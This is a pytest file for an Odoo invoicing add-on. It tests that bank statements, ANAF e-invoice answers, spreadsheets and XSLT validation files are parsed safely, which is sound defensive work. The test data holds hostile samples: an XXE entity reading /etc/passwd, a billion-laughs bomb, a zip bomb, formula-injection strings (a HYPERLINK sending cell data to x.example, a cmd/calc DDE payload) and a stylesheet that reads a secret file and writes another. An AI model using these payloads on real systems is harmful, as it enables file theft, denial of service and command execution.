"""Files from outside (bank statements, ANAF's answers, validation folders,
spreadsheets) read by one safe parser; text exported inert."""

import io
import zipfile
from pathlib import Path

import pytest
from test_efactura import artifacts

from odoo.addons.crm_invoices.lib import safe_xml, spreadsheet
from odoo.addons.crm_invoices_bank.lib import sheet_guard
from odoo.addons.crm_invoices_efactura.lib import anaf_client, validation

CAMT = (
    b'<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:'
    b'camt.053.001.02"><BkToCstmrStmt><GrpHdr/></BkToCstmrStmt></Document>'
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY x SYSTEM '
    b'"file:///etc/passwd">]><Document><Ustrd>&x;</Ustrd></Document>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    b"<lolz>&lol2;</lolz>"
)


# ---------------------------------------------------------------- the parser


def test_a_plain_document_is_read_whole():
    root = safe_xml.parse(CAMT, what="bank statement")
    assert root.tag.endswith("Document")
    assert safe_xml.parse(CAMT.decode()).tag == root.tag
    assert b"<!DOCTYPE" not in safe_xml.clean_bytes(root)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (XXE, "DTD"),
        (LAUGHS, "DTD"),
        (b"<!doctype html><html/>", "DTD"),
        (CAMT[:-30], "not well-formed XML at line 1"),
        (b"<a>&undefined;</a>", "not well-formed"),
        (b"<a><b></a>", "not well-formed"),
        (b"", "not well-formed"),
        (None, "not a file"),
    ],
)
def test_dtds_entities_and_broken_files_are_refused_with_a_reason(data, words):
    with pytest.raises(safe_xml.UnsafeXmlError) as refused:
        safe_xml.parse(data, what="bank statement")
    assert "bank statement" in str(refused.value)
    assert words in str(refused.value)
    assert "root:" not in str(refused.value)


def test_looks_like_xml():
    assert safe_xml.looks_like_xml(b"\xef\xbb\xbf  <?xml version='1.0'?><a/>")
    assert safe_xml.looks_like_xml("<a/>")
    assert not safe_xml.looks_like_xml(b"Data;Suma;Detalii\n")
    assert not safe_xml.looks_like_xml(b"PK\x03\x04")


def test_size_limit(monkeypatch):
    monkeypatch.setattr(safe_xml, "MAX_BYTES", 10)
    with pytest.raises(safe_xml.UnsafeXmlError, match="larger than"):
        safe_xml.parse(b"<a>0123456789</a>")


# ---------------------------------------------------------------- ANAF


def _zip(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_anaf_answers_with_entities_are_refused_whole():
    with pytest.raises(anaf_client.AnafError) as refused:
        anaf_client.parse_answer(_zip({"123.xml": XXE}))
    assert "DTD" in refused.value.message
    with pytest.raises(anaf_client.AnafError):
        anaf_client._xml(XXE)  # the upload and status answers
    assert "root:" not in anaf_client._error_text(XXE)


def test_anaf_answer_bombs_are_refused(monkeypatch):
    monkeypatch.setattr(anaf_client, "MAX_ANSWER_EXPANDED", 1000)
    with pytest.raises(anaf_client.AnafError, match="expands"):
        anaf_client.parse_answer(_zip({"123.xml": b"<a>" + b"x" * 5000 + b"</a>"}))


# ---------------------------------------------------------------- spreadsheets


def _xlsx(part_size=1000, extra=None):
    files = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "xl/worksheets/sheet1.xml": b"<worksheet>"
        + b"<row/>" * (part_size // 6)
        + b"</worksheet>",
    }
    files.update(extra or {})
    return _zip(files)


def test_a_normal_workbook_passes_and_other_files_are_untouched():
    sheet_guard.check_xlsx(_xlsx())
    sheet_guard.check_xlsx(b"Data;Suma\n01.12.2026;100,00\n")


def test_workbooks_that_expand_too_far_are_refused(monkeypatch):
    bomb = _xlsx(part_size=20_000_000)
    assert len(bomb) < 100_000
    with pytest.raises(sheet_guard.SheetRefused, match="expands"):
        sheet_guard.check_xlsx(bomb)
    monkeypatch.setattr(sheet_guard, "MAX_EXPANDED", 500)
    with pytest.raises(sheet_guard.SheetRefused, match="expands to"):
        sheet_guard.check_xlsx(_xlsx())


def test_workbook_parts_with_entities_are_refused():
    with pytest.raises(sheet_guard.SheetRefused, match="DTD"):
        sheet_guard.check_xlsx(_xlsx(extra={"xl/sharedStrings.xml": XXE}))
    with pytest.raises(sheet_guard.SheetRefused, match="not a valid ZIP or XLSX"):
        sheet_guard.check_xlsx(b"PK\x03\x04 broken")


@pytest.mark.parametrize(
    ("text", "exported"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"ok")',
            '\'=HYPERLINK("http://x.example/?"&A1,"ok")',
        ),
        ("+40 721 000 000 cmd", "'+40 721 000 000 cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("  =1+1", "'  =1+1"),
        ("-12.50", "-12.50"),
        ("+40", "+40"),
        ("Plata factura INV/2026/00012", "Plata factura INV/2026/00012"),
        (12.5, 12.5),
        (False, False),
    ],
)
def test_exported_text_never_runs_as_a_formula(text, exported):
    assert spreadsheet.inert(text) == exported
    assert spreadsheet.inert_rows([[text, 1]]) == [[exported, 1]]


# ---------------------------------------------------------------- validation


@pytest.fixture
def hostile_folder(tmp_path):
    """ANAF's real schemas beside a stylesheet that reads a server file and
    writes another."""
    real = Path(artifacts())
    (tmp_path / "ubl-2.1").symlink_to(real / "ubl-2.1")
    secret = tmp_path.parent / "secret.txt"
    secret.write_text("SECRET-LINE")
    written = tmp_path.parent / "written.txt"
    stylesheet = f"""<xsl:stylesheet version="3.0"
        xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
        xmlns:svrl="http://purl.oclc.org/dsdl/svrl">
      <xsl:template match="/">
        <svrl:schematron-output>
          <svrl:failed-assert id="LEAK" flag="fatal" location="/">
            <svrl:text>
              <xsl:value-of select="unparsed-text('{secret.as_uri()}')"/>
            </svrl:text>
          </svrl:failed-assert>
        </svrl:schematron-output>
        <xsl:result-document href="{written.as_uri()}" method="text">
          pwned
        </xsl:result-document>
      </xsl:template>
    </xsl:stylesheet>"""
    for layer in ("anaf", "cen"):
        path = tmp_path / validation.ARTIFACTS[layer]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(stylesheet)
    return tmp_path, written


def test_stylesheets_read_no_file_and_write_none(hostile_folder):
    folder, written = hostile_folder
    checker = validation.Validator(str(folder))
    golden = Path(__file__).parents[2] / "crm_invoices_efactura/tests/golden"
    document = (golden / "ron_several_rates.xml").read_bytes()
    try:
        findings = checker.validate(document)
    except Exception as error:  # Saxon refuses the access: acceptable
        assert "SECRET-LINE" not in str(error)
        findings = []
    assert not any("SECRET-LINE" in finding.text for finding in findings)
    assert not written.exists()


def test_stylesheets_linked_out_of_the_folder_are_refused(tmp_path):
    real = Path(artifacts())
    (tmp_path / "ubl-2.1").symlink_to(real / "ubl-2.1")
    for layer in ("anaf", "cen"):
        target = tmp_path / validation.ARTIFACTS[layer]
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes((real / validation.ARTIFACTS[layer]).read_bytes())
    validation.Validator(str(tmp_path))  # a real copy is fine
    (tmp_path / validation.ARTIFACTS["anaf"]).unlink()
    (tmp_path / validation.ARTIFACTS["anaf"]).symlink_to("/etc/hostname")
    with pytest.raises(validation.ArtifactsMissing):
        validation.Validator(str(tmp_path))
